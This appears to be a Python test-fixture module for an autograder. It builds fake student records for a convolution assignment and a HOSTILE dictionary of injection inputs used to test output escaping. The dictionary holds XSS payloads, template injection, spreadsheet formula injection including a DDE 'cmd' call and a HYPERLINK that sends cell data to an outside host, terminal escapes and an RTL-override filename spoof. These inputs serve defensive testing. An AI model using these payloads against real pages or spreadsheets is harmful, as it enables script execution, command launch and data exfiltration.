"""A class made up by hand: records without a gradebook."""

from __future__ import annotations

from autograder.nbgrader_bridge.class_record import ClassRecord, Mark, StudentRecord
from autograder.results import CheckResult, ExerciseResult, GradeReport, Outcome

ASSIGNMENT = "ps1-convolution"
EXERCISES = ("output_size_checks", "max_pool_checks", "why_written")
MOST = {"output_size_checks": 2.0, "max_pool_checks": 2.0, "why_written": 1.0}


def student(
    name: str,
    *points: float,
    late: float = 0.0,
    penalty: float = 0.0,
    misconception: str | None = None,
    repairs: tuple[str, ...] = (),
    flags: tuple[str, ...] = (),
    to_mark: bool = False,
    code: dict[str, str] | None = None,
    message: str = "No.",
) -> StudentRecord:
    """A student with points on the two exercises and on the written answer."""
    given = dict(zip(EXERCISES, map(float, [*points, 0, 0, 0]), strict=False))
    results = []
    for grade_id in EXERCISES[:2]:
        full = given[grade_id] == MOST[grade_id]
        named = misconception if grade_id == "output_size_checks" and not full else None
        outcome = Outcome.PASSED if full else Outcome.FAILED
        check = CheckResult("a", outcome, given[grade_id], MOST[grade_id], message, named)
        results.append(ExerciseResult(grade_id, given[grade_id], MOST[grade_id], outcome, (check,)))
    report = GradeReport(
        name,
        ASSIGNMENT,
        "convolution",
        sum(given.values()),
        5.0,
        0.0,
        repairs,
        ("seccomp",),
        1.25,
        tuple(results),
        flags,
    )
    marks = tuple(
        Mark(one, given[one], MOST[one], to_mark and one == "why_written", one == "why_written")
        for one in EXERCISES
    )
    return StudentRecord(name, marks, float(late), float(penalty), report, code or {})


def record(*students: StudentRecord, missing: tuple[str, ...] = ()) -> ClassRecord:
    return ClassRecord("deep", ASSIGNMENT, EXERCISES, students, missing)


#: What a student id, a file's name or a message may try. Every page and file gets each of them.
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "template": "{{ 7 * 7 }}{% raw %}",
    "formula": '=HYPERLINK("http://example.org?x="&A1,"click")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3",
    "formula_at": "@SUM(1+1)",
    "formula_after_space": "  =1+1",
    "formula_after_tab": "\t=1+1",
    "formula_after_line": "\r\n=1+1",
    "formula_full_width": "＝1+1",
    "formula_after_nothing": "\u200b=1+1",
    "semicolon": "a;=1+1",
    "quotes": 'a","=1+1',
    "lines": "ann\nbob,20,20",
    "escapes": "\x1b[2J\x1b]0;owned\x07ann",
    "markup": "[bold red]ann[/] [link=http://example.org]x[/link]",
    "bracket": "ann [",
    "turned": "ann\u202exslx.exe",
    "nul": "ann\x00bob",
    "surrogate": "ann\ud800",
    "long": "a" * 5000,
}
